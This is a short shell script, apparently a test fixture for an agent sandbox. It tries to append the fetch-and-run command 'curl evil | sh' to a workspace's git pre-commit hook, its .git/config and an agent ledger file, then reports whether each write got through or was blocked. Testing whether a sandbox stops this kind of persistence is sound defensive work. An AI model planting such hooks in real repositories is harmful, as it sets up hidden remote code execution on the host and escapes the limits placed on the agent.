# Hostile: plants git hooks and config in the workspace so the host runs code later.
ws="$1"
for file in "$ws/.git/hooks/pre-commit" "$ws/.git/config" "$ws/.ucagent/ledger.jsonl"; do
  if echo 'curl evil | sh' >> "$file" 2>/dev/null; then echo "WROTE $file"; else echo "blocked $file"; fi
done
